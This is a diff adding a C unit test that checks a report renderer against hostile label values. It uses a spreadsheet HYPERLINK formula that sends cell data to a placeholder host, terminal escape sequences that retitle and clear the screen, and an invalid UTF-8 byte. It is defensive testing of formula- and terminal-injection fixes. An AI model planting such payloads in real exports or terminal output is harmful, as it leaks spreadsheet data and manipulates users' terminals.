@@ -424,6 +424,41 @@ START_TEST(test_render)
 }
 END_TEST
 
+/* Hostile label values: a CSV cell that a spreadsheet would run as a formula gets a
+ * leading ', terminal escapes never reach the table, and JSON stays valid UTF-8. */
+START_TEST(test_render_hostile)
+{
+	struct fake fk = {.from_ms = 10 * DAY};
+	struct jp_report_source src = fake_source(&fk, 0);
+	struct jp_report_params p = {.from_ms = 10 * DAY, .to_ms = 13 * DAY, .by = JP_BY_NAMESPACE};
+	struct jp_report r;
+	char why[512];
+	ck_assert_int_eq(jp_report_build(&src, &p, &r, why, sizeof(why)), 0);
+	free(r.rows[0].key);
+	r.rows[0].key = strdup("=HYPERLINK(\"http://x/?\"&A1,\"see\")");
+	free(r.rows[1].key);
+	r.rows[1].key = strdup("team\033]0;owned\007\033[2J\xc2\x9b" "31m\xff" "-b");
+	char *csv = render(&r, JP_FMT_CSV);
+	ck_assert_msg(strstr(csv, "\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"see\"\")\",row,") != NULL, "%s", csv);
+	ck_assert_msg(strstr(csv, "\r\n'=") == NULL && strstr(csv, "\r\n=") == NULL, "%s", csv);
+	free(csv);
+	char *table = render(&r, JP_FMT_TABLE);
+	ck_assert_ptr_null(strchr(table, '\033'));
+	ck_assert_ptr_null(strchr(table, '\007'));
+	ck_assert_ptr_null(strstr(table, "\xc2\x9b"));
+	ck_assert_ptr_nonnull(strstr(table, "team?]0;owned??[2J?31m?-b"));
+	free(table);
+	char *json = render(&r, JP_FMT_JSON);
+	struct json_object *o = json_tokener_parse(json);
+	ck_assert_ptr_nonnull(o);
+	ck_assert_ptr_null(strstr(json, "\xff"));
+	ck_assert_ptr_nonnull(strstr(json, "\xef\xbf\xbd-b"));   /* U+FFFD for the bad byte */
+	json_object_put(o);
+	free(json);
+	jp_report_free(&r);
+}
+END_TEST
+
 int main(void)
 {
 	Suite *s = suite_create("report");
@@ -437,6 +472,7 @@ int main(void)
 	tcase_add_test(tc, test_build_partial);
 	tcase_add_test(tc, test_build_errors);
 	tcase_add_test(tc, test_render);
+	tcase_add_test(tc, test_render_hostile);
 	suite_add_tcase(s, tc);
 	SRunner *sr = srunner_create(s);
 	srunner_run_all(sr, CK_NORMAL);
